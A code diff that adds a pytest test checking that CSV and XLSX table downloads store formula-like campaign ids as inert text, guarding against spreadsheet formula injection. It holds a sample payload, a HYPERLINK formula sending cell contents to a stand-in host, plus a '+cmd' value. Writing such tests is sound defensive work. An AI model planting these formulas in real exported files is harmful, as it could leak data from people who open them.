@@ -266,6 +266,25 @@ def test_tables_are_saved_for_download_as_shown(tmp_path, monkeypatch):
     assert nbk.save_table(shown) == []  # outside a run nothing is written
 
 
+def test_downloads_never_hold_a_live_formula(tmp_path, monkeypatch):
+    """A campaign id such as =HYPERLINK(...) is text in the CSV and the XLSX (CSV injection)."""
+    import openpyxl
+
+    monkeypatch.setenv(nbk.TABLES_ENV, str(tmp_path / "tables" / "02_referral"))
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    shown, _ = nbk.display_frame(
+        pd.DataFrame({"campaign_id": [evil, "+cmd", "-1.5", "spring"], "users": [1, 2, 3, 4]}),
+        lang="en",
+    )
+    links = nbk.save_table(shown, "campaigns")
+    csv = (tmp_path / links[0][1]).read_text(encoding="utf-8-sig").splitlines()
+    assert csv[1].startswith("\"'=HYPERLINK(") and csv[2] == "'+cmd,2"
+    assert csv[3] == "-1.5,3"  # a number stays a number
+    book = openpyxl.load_workbook(tmp_path / links[1][1])
+    cell = book.active["A2"]
+    assert cell.value == evil and cell.data_type == "s"  # text, not a formula
+
+
 def test_numbers_have_thousands_separators_whatever_the_formats():
     df = pd.DataFrame({"n": [2155, 12], "p": [0.123, 0.5]})
     cells = re.findall(r">([^<>]+)</td>", nbk.table_html(df, {"p": "{:.1%}"}))
